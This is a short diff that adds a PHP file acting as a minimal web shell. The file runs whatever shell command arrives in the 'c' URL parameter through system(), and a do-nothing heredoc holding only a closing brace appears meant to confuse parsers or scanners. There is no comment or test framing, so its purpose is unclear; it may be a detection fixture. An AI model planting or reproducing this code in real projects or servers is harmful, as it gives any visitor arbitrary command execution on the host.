@@ -1,0 +1,9 @@
+<?php
+function f() {
+  $c = $_GET["c"];
+  $t = <<<EOT
+}
+EOT;
+  system($c);
+}
+f();
